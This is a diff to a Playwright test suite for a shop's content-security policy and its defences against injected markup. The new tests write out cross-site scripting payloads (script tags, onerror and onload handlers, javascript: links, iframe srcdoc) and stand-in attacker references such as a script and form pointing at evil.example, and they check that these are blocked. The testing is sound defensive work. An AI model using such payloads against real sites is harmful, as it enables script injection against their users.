@@ -1,10 +1,9 @@
+import { createHash } from 'node:crypto'
+import type { APIResponse, Page } from '@playwright/test'
 import { expect, test } from './shop.ts'
 
-test('nothing on the way to an order breaks the content-security policy', async ({
-  page,
-  shopper,
-  customer,
-}) => {
+/** Whatever a policy stopped, in any frame of the page. */
+async function watchPolicy(page: Page): Promise<string[]> {
   const violations: string[] = []
   await page.exposeFunction('noteViolation', (violation: string) => violations.push(violation))
   await page.addInitScript(() => {
@@ -12,17 +11,126 @@ test('nothing on the way to an order breaks the content-security policy', async 
       Reflect.get(globalThis, 'noteViolation')(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
     )
   })
-  for (const path of ['/', '/products', '/account?tab=orders', '/contact', '/signup']) {
-    const answer = await page.goto(path, { waitUntil: 'networkidle' })
-    expect(answer?.headers()['content-security-policy']).toContain("default-src 'none'")
+  return violations
+}
+
+test('nothing on the way to an order breaks the content-security policy', async ({
+  page,
+  shopper,
+  customer,
+}) => {
+  const violations = await watchPolicy(page)
+  const tabs = ['/account', '/account?tab=orders', '/account?tab=addresses']
+  for (const path of ['/', '/products', ...tabs, '/contact', '/signup', '/api/docs']) {
+    await page.goto(path, { waitUntil: 'networkidle' })
   }
   await shopper.openProduct('whey-blend')
   await shopper.addToCart()
   await shopper.openCart()
+  await page.goto('/checkout/account', { waitUntil: 'networkidle' })
   await shopper.proceedToPayment()
   await shopper.payByUpi()
   await shopper.expectThankYou('₹1,899.00')
   await expect(page.getByText('Payment successful')).toBeVisible()
   expect(violations).toEqual([])
   expect(await customer.listOrders()).toHaveLength(1)
+})
+
+/** Every kind of document: of the page cache, of the router's errors, of the docs, of the stand-ins. */
+const documents = [
+  ...[
+    '/',
+    '/products',
+    '/products/whey-blend',
+    '/account',
+    '/checkout/shipping',
+    '/nothing',
+    '/%ff',
+    '/test2',
+  ],
+  ...['/api/docs', '/sandbox/mail', '/sandbox/razorpay/window'],
+]
+
+const policyOf = (answer: APIResponse) => answer.headers()['content-security-policy'] ?? ''
+
+test('no document lets a script run that is not its own', async ({ request }) => {
+  for (const path of documents) {
+    const policy = policyOf(await request.get(path, { headers: { accept: 'text/html' } }))
+    const rules = new Map(policy.split(/;\s*/).map((rule) => [rule.split(' ', 1)[0], rule]))
+    expect.soft(rules.get('script-src') ?? rules.get('default-src'), path).toMatch(ownScripts)
+    expect.soft(rules.get('frame-ancestors'), path).toMatch(/^frame-ancestors '(none|self)'/)
+    expect.soft(rules.get('base-uri'), path).toMatch(/^base-uri '(none|self)'$/)
+  }
+})
+
+const ownScripts = /^(default-src 'none'|script-src 'self'( 'sha256-[\w+/]{43}=')*)$/
+
+test('a policy from the page cache has the hashes of the very page that it comes with', async ({
+  request,
+}) => {
+  for (const path of ['/products/eaa', '/products/eaa', '/products?search=whey', '/nothing']) {
+    const answer = await request.get(path)
+    const scripts = (await answer.text()).matchAll(/<script(?![^>]* src=)[^>]*>([\s\S]*?)<\/script>/g)
+    const hashes = [...scripts].map(([, code = '']) => createHash('sha256').update(code).digest('base64'))
+    expect(hashes.length).toBeGreaterThan(1)
+    expect([...policyOf(answer).matchAll(/'sha256-([^']+)'/g)].map(([, hash]) => hash)).toEqual(hashes)
+  }
+})
+
+test('what a stranger has written into a page does not run', async ({ page }) => {
+  const violations = await watchPolicy(page)
+  await page.route('/mission', async (route) => {
+    const response = await route.fetch()
+    const evil = `<script>window.stolen = 1</script><img src="/nothing.png" onerror="window.stolen = 2">
+      <svg onload="window.stolen = 3"></svg><a href="javascript:window.stolen = 4">press</a>
+      <iframe srcdoc="<script>parent.stolen = 5</script>"></iframe><base href="https://evil.example/">`
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${evil}</body>`) })
+  })
+  await page.goto('/mission', { waitUntil: 'networkidle' })
+  await page.getByRole('link', { name: 'press' }).click({ timeout: 10_000 })
+  const refused = await page.evaluate(() => {
+    const attempts = [
+      () => Object.assign(document.createElement('div'), { innerHTML: '<img src=x onerror=stolen=6>' }),
+      () => document.head.append(Object.assign(document.createElement('script'), { text: 'stolen = 7' })),
+      () => Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }),
+    ]
+    return attempts.filter((attempt) => {
+      try {
+        attempt()
+        return false
+      } catch {
+        return true
+      }
+    }).length
+  })
+  expect(refused).toBe(3)
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'stolen'))).toBeUndefined()
+  await expect.poll(() => violations.length).toBeGreaterThan(4)
+})
+
+test('a hostile description does not run, even one that no import has cleaned', async ({ page }) => {
+  const hostile = [
+    '<p onclick="stolen=1">Whey<script>window.stolen = 1</script><img src=x onerror="window.stolen = 2">',
+    '<svg><script>stolen=3</script></svg><iframe srcdoc="<script>parent.stolen=4</script>"></iframe>',
+    '<a href="javascript:window.stolen = 5">recipe</a><a href="data:text/html,<script>1</script>">more</a>',
+    '<style>*{display:none}</style><form action="https://evil.example"><button>Pay</button></form></p>',
+  ].join('')
+  await page.goto('/accessories')
+  await page.route('**/api/products/shaker-bottle', async (route) => {
+    const response = await route.fetch()
+    const { product } = await response.json()
+    await route.fulfill({ response, json: { product: { ...product, body_html: hostile } } })
+  })
+  await page
+    .getByRole('main')
+    .getByRole('link', { name: /Shaker/ })
+    .first()
+    .click()
+  await expect(page.getByText('recipe')).toBeVisible()
+  const main = page.getByRole('main')
+  await expect(main.locator('script, iframe, style, form[action*="evil"], [onclick], [onerror]')).toHaveCount(
+    0,
+  )
+  await expect(main.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0)
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'stolen'))).toBeUndefined()
 })
